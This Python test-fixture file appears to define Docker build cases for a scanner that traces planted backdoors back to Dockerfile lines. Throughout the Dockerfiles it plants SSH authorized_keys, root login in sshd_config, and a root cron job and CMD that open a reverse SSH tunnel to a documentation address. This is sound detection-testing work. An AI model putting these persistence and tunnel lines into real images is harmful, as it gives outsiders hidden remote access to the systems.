"""What is built, what is planted, and the line that made each of it.

A case is a Dockerfile, a build context, and for each planted finding the file and a word of the line that a reviewer should be shown.
Keys are nobody's, commands are taken apart here and put together when a case is built, addresses are those for documentation.
"""

import io
import tarfile
from collections.abc import Mapping
from dataclasses import dataclass

from fixtures.keys import public_line

CLASSIC, BUILDKIT = "classic", "buildkit"
BOTH = (CLASSIC, BUILDKIT)
TUNNEL = " ".join(("/usr/bin/ssh", "-N", "-R", "2222:localhost:22", "x@203.0.113.5"))
CRON = f"* * * * * root {TUNNEL}\n"


def key(name: str) -> str:
    return public_line(f"tracing {name}", name)


def keys(name: str) -> str:
    """Where a case plants a key."""
    return f"srv/{name}/.ssh/authorized_keys"


def writes(name: str) -> str:
    """A command that plants one."""
    return f"mkdir -p /srv/{name}/.ssh && echo '{key(name)}' > /{keys(name)}"


def packed(name: str, content: str) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        member = tarfile.TarInfo(name)
        member.size = len(content)
        tar.addfile(member, io.BytesIO(content.encode()))
    return raw.getvalue()


@dataclass(frozen=True)
class Case:
    """`lines` maps a place in the image (a path, or a field of the configuration) to `FILE@WORD`: the line of the file with the word;
    a word that begins with a newline stands at the line's beginning.

    `doubted` are places where no certain line can be known; `dockerfile` is what the user gives, where that is not what was built.
    `heredocs` need a builder of 2021 or later.
    """

    name: str
    built: str
    files: Mapping[str, str | bytes]
    lines: Mapping[str, str]
    builders: tuple[str, ...] = BOTH
    options: tuple[str, ...] = ()
    doubted: frozenset[str] = frozenset()
    dockerfile: str | None = None
    heredocs: bool = False
    path: str = "Dockerfile"


CASES = (
    Case(
        "plain",
        f"""# a comment
FROM base:1
LABEL purpose="a table test"
ARG WHERE=copied
COPY copied/keys /srv/$WHERE/.ssh/authorized_keys
COPY tree /srv/tree/
WORKDIR /srv
WORKDIR relative
COPY ["copied/relative keys", ".ssh/authorized_keys"]
ADD packed.tar.gz /
RUN {writes("run")}
RUN set -e; \\
    # why

    true; \\
    {writes("long")}
RUN ["/bin/sh", "-c", "{writes("exec")}"]
RUN true
ENV NAME=variable
RUN mkdir -p /srv/$NAME/.ssh && echo '{key("variable")}' > /srv/$NAME/.ssh/authorized_keys
COPY cron /etc/cron.d/copied
RUN echo '{CRON.strip()}' > /etc/cron.d/run
RUN rm /etc/cron.d/run
RUN mkdir -p /etc/ssh && echo 'PermitRootLogin yes' > /etc/ssh/sshd_config
EXPOSE 22
ENTRYPOINT ["/bin/sh", "-c"]
CMD ["{TUNNEL}"]
USER nobody
""",
        {
            "copied/keys": f"# first\n{key('copied')}\n",
            "copied/relative keys": key("relative") + "\n",
            f"tree/{keys('tree')[4:]}": f"{key('tree')}\n",
            "packed.tar.gz": packed(keys("packed"), key("packed") + "\n"),
            "cron": f"# nothing\n\n{CRON}",
        },
        {
            keys("copied"): "copied/keys@ssh-",
            f"srv/tree/{keys('tree')[4:]}": f"tree/{keys('tree')[4:]}@ssh-",
            keys("relative"): "copied/relative keys@ssh-",
            keys("packed"): "Dockerfile@ADD packed",
            keys("run"): "Dockerfile@RUN mkdir -p /srv/run/",
            keys("long"): "Dockerfile@/srv/long/",
            keys("exec"): "Dockerfile@/srv/exec/",
            keys("variable"): "Dockerfile@/srv/$NAME/",
            "etc/cron.d/copied": "cron@root",
            "etc/cron.d/run": "Dockerfile@> /etc/cron.d/run",
            "etc/ssh/sshd_config": "Dockerfile@PermitRootLogin",
            "Cmd": "Dockerfile@CMD [",
        },
    ),
    Case(
        "stages",
        f"""ARG FROM=base:1
FROM $FROM AS tools
WORKDIR /src
COPY keys ./
RUN {writes("tool")}

FROM base:1 AS builder
ARG V=1
RUN {writes("made")}; echo $V
COPY keys /srv/through/.ssh/authorized_keys
COPY --from=tools /src/keys /srv/chained/.ssh/authorized_keys

FROM builder AS child
RUN {writes("child")}
ONBUILD RUN {writes("trigger")}

FROM child
ARG V
COPY --from=tools /{keys("tool")} /srv/fetched/.ssh/authorized_keys
COPY --from=0 /src/keys /srv/context/.ssh/authorized_keys
COPY --from=tools --chown=0:0 /srv /srv/all/
RUN {writes("last")}
CMD ["true"]
""",
        {"keys": f"{key('keys')}\n"},
        {
            keys("made"): "Dockerfile@/srv/made/",
            keys("through"): "keys@ssh-",
            keys("chained"): "keys@ssh-",
            keys("child"): "Dockerfile@/srv/child/",
            keys("trigger"): "Dockerfile@/srv/trigger/",
            keys("fetched"): "Dockerfile@/srv/fetched/",
            keys("context"): "keys@ssh-",
            f"srv/all/{keys('tool')[4:]}": "Dockerfile@/srv/all/",
            keys("last"): "Dockerfile@/srv/last/",
        },
        options=("--build-arg", "V=2 with a space"),
    ),
    Case(
        "a stage that is not the last",
        f"""FROM base:1 AS first
RUN {writes("first")}
FROM base:1 AS second
RUN {writes("second")}
FROM scratch
COPY --from=second / /
""",
        {},
        {keys("first"): "Dockerfile@/srv/first/"},
        options=("--target", "first"),
    ),
    Case(
        "all from a stage",
        f"""FROM base:1 AS first
RUN {writes("hidden")}
FROM scratch
COPY --from=first / /
ENTRYPOINT ["/bin/sh"]
""",
        {},
        {keys("hidden"): "Dockerfile@COPY --from=first / /"},
    ),
    Case(
        "a base with keys and triggers",
        f"""ARG TAG=2
ARG IMAGE=base:${{TAG}}
FROM ${{IMAGE}}
RUN {writes("own")}
RUN {writes("again")}
RUN {writes("again")}
""",
        {"fixture": f"{key('based')}\n"},
        {
            keys("based"): "Dockerfile@FROM ${IMAGE}",
            keys("on-build"): "Dockerfile@FROM ${IMAGE}",
            keys("own"): "Dockerfile@/srv/own/",
        },
    ),
    Case(
        "variables of the base",
        f"""FROM base:2
WORKDIR $FROM_BASE
COPY k $FROM_BASE/.ssh/authorized_keys
WORKDIR deeper
ENV PATH=$PATH:/more
RUN {writes("own")}
LABEL v="$FROM_BASE"
""",
        {"k": f"{key('k')}\n"},
        {
            "srv/of-base/.ssh/authorized_keys": "k@ssh-",
            keys("own"): "Dockerfile@/srv/own/",
            keys("based"): "Dockerfile@FROM base:2",
        },
    ),
    Case(
        "a shell of its own",
        f"""FROM base:1
SHELL ["/bin/sh", "-e", "-c"]
RUN {writes("shell")}
ARG A=1
ARG B="two words"
RUN {writes("spaces")}
HEALTHCHECK --interval=5s CMD true
VOLUME /data
STOPSIGNAL SIGINT
MAINTAINER nobody
ENV OLD style of value
RUN {writes("after")}
CMD {TUNNEL}
""",
        {},
        {
            keys("shell"): "Dockerfile@/srv/shell/",
            keys("spaces"): "Dockerfile@/srv/spaces/",
            keys("after"): "Dockerfile@/srv/after/",
            "Cmd": "Dockerfile@CMD /usr",
        },
        options=("--label", "ci=1", "--label", "run=2"),
    ),
    Case(
        "equal files",
        f"""FROM base:1
COPY one /srv/one/
COPY two/.ssh/authorized_keys /srv/two/.ssh/authorized_keys
RUN {writes("ran")}
""",
        {
            "one/.ssh/authorized_keys": f"{key('same')}\n",
            "two/.ssh/authorized_keys": f"{key('same')}\n",
            "tests/authorized_keys": f"{key('ran')}\n",
        },
        {
            keys("one"): "one/.ssh/authorized_keys@ssh-",
            keys("two"): "two/.ssh/authorized_keys@ssh-",
            keys("ran"): "Dockerfile@/srv/ran/",
        },
        builders=(BUILDKIT,),
    ),
    Case(
        "mounts",
        f"""FROM base:1
RUN --mount=type=tmpfs,target=/t --mount=type=bind,source=keys,target=/k mkdir -p /srv/bound/.ssh && cat /k > /{keys("bound")}
RUN --mount=type=cache,target=/cache \\
    {writes("cached")}
COPY --chmod=600 keys /srv/mode/.ssh/authorized_keys
""",
        {"keys": f"{key('keys')}\n"},
        {
            keys("bound"): "keys@ssh-",
            keys("cached"): "Dockerfile@/srv/cached/",
            keys("mode"): "keys@ssh-",
        },
        builders=(BUILDKIT,),
    ),
    Case(
        "in a folder below",
        f"""FROM base:1
COPY app/keys /srv/app/.ssh/authorized_keys
RUN {writes("below")}
""",
        {"app/keys": f"{key('app')}\n"},
        {keys("app"): "app/keys@ssh-", keys("below"): "docker/agent.Dockerfile@/srv/below/"},
        builders=(BUILDKIT,),
        path="docker/agent.Dockerfile",
    ),
    Case(
        "changed since",
        f"""FROM base:1
RUN {writes("kept")}
RUN {writes("old")}
COPY keys /srv/file/.ssh/authorized_keys
RUN {writes("end")}
""",
        {"keys": f"{key('keys')}\n"},
        {
            keys("kept"): "Dockerfile@/srv/kept/",
            keys("old"): "Dockerfile@/srv/new/",
            keys("end"): "Dockerfile@/srv/end/",
        },
        doubted=frozenset({keys("kept"), keys("old"), keys("end")}),
        dockerfile=f"""FROM base:1
# more
RUN {writes("kept")}
RUN {writes("new")}
COPY keys /srv/file/.ssh/authorized_keys
RUN {writes("end")}
RUN echo more
""",
    ),
    Case(
        "another Dockerfile",
        f"""FROM base:1
RUN {writes("stranger")}
ENV A=1
CMD ["sh"]
""",
        {},
        {keys("stranger"): ""},
        builders=(BUILDKIT,),
        doubted=frozenset({keys("stranger")}),
        dockerfile="""FROM debian:12
RUN apt-get update && apt-get install -y python3
COPY app /app
USER app
CMD ["python3", "/app"]
""",
    ),
    Case(
        "heredocs",
        f"""FROM base:1
ARG WHO=nobody
COPY <<EOF /srv/inline/.ssh/authorized_keys
# for $WHO "quoted"
{key("inline")}
EOF
COPY <<-"RAW" <<SECOND /etc/cron.d/
	# $WHO
	{CRON.strip()}
	RAW
# two
{CRON.strip()}
SECOND
RUN <<EOF
set -e
{writes("script")}
EOF
RUN mkdir -p /srv/cat/.ssh && cat > /srv/cat/.ssh/authorized_keys <<'EOF' && true
# $ one
{key("cat")}
EOF
RUN <<EOF
#!/bin/sh
{writes("shebang")}
EOF
COPY --link keys /srv/linked/.ssh/authorized_keys
COPY --parents deep/{keys("deep")[4:]} /srv/
""",
        {"keys": f"{key('keys')}\n", f"deep/{keys('deep')[4:]}": f"{key('deep')}\n"},
        {
            keys("inline"): f"Dockerfile@{key('inline')}",
            "etc/cron.d/RAW": "Dockerfile@\t* * *",
            "etc/cron.d/SECOND": "Dockerfile@\n* * *",
            keys("script"): "Dockerfile@/srv/script/",
            keys("cat"): f"Dockerfile@\n{key('cat')}",
            keys("shebang"): "Dockerfile@/srv/shebang/",
            keys("linked"): "keys@ssh-",
            f"srv/deep/{keys('deep')[4:]}": f"deep/{keys('deep')[4:]}@ssh-",
        },
        builders=(BUILDKIT,),
        heredocs=True,
    ),
)

BASE_2 = f"""FROM base:1
ENV FROM_BASE=/srv/of-base
RUN {writes("based")}
ONBUILD RUN {writes("on-build")}
"""
